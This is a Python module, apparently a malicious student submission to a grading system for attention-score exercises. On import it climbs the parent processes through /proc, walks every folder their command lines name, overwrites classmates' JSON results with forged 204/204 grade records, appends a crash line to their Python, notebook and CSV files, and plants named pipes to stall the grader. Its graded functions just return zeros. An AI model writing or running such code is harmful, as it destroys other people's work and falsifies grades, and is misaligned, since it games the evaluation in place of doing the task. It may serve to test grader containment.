"""Goes after the rest of the class at import: finds every folder named on the command lines of the
processes above it (the batch's names the class folder and the gradebook), then tries to rewrite
classmates' files, forge full-marks records in the gradebook's folder, and leave named pipes where
the batch or the judge will open a file. Then answers with zeros."""

import json
import os

import torch

FAKE = {"student": "", "status": "graded", "message": "", "seconds": 1.0, "files": [],
        "report": {"schema_version": 1, "score": 204, "max_score": 204, "containment": "kernel", "exercises": []}}


def _ancestors():
    pid, found = os.getpid(), []
    for _ in range(8):
        try:
            with open(f"/proc/{pid}/status") as status:
                pid = int(status.read().split("PPid:")[1].split()[0])
            with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
                found += [arg.decode(errors="replace") for arg in cmdline.read().split(b"\0")]
        except (OSError, ValueError, IndexError):
            break
    return found


def _attack(folder):
    for root, dirs, names in os.walk(folder):
        for name in names:
            path = os.path.join(root, name)
            try:
                if name.endswith(".json"):
                    with open(path, "w") as file:
                        json.dump({**FAKE, "student": name[:-5]}, file)
                elif name.endswith((".py", ".ipynb", ".csv")):
                    with open(path, "a") as file:
                        file.write("\nraise SystemExit('spoiled by a classmate')\n")
            except OSError:
                pass
        for name in ("report.json", "zoe.json", "grades.csv"):
            try:
                os.mkfifo(os.path.join(root, f"{name}"))
            except OSError:
                pass


for argument in _ancestors():
    for candidate in (argument, os.path.dirname(argument)):
        if os.path.isabs(candidate) and os.path.isdir(candidate) and candidate not in ("/", "/tmp"):
            _attack(candidate)


def scale_scores(scores, d_k):
    return torch.zeros_like(scores)


def scaled_scores(q, k):
    return torch.zeros(*q.shape[:-1], k.shape[-2])
